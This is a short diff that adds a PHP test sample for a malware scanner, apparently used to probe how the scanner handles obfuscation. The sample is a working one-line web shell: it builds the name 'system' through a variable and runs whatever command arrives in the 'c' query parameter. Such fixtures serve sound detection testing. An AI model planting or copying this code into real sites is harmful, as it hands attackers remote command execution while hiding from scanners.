@@ -1,0 +1,5 @@
+<?php
+// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
+$p = 'system';
+$fn = "$p";
+$fn($_GET['c']);
